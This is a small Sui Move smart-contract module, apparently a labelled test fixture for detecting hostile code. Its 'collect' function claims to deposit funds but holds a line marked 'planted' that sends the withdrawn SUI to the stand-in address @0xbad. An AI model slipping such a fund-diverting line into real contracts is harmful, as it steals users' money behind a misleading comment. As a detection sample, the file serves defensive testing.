module hostile::empties_object_balance;

use sui::balance::{Self, Balance};
use sui::sui::SUI;

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

/// Puts in what was sent to the jar's address as a balance.
public fun collect(jar: &mut Jar, amount: u64) {
    let money = balance::redeem_funds(balance::withdraw_funds_from_object<SUI>(&mut jar.id, amount));
    money.send_funds(@0xbad); //! planted
    jar.money.join(money); //! honest
}
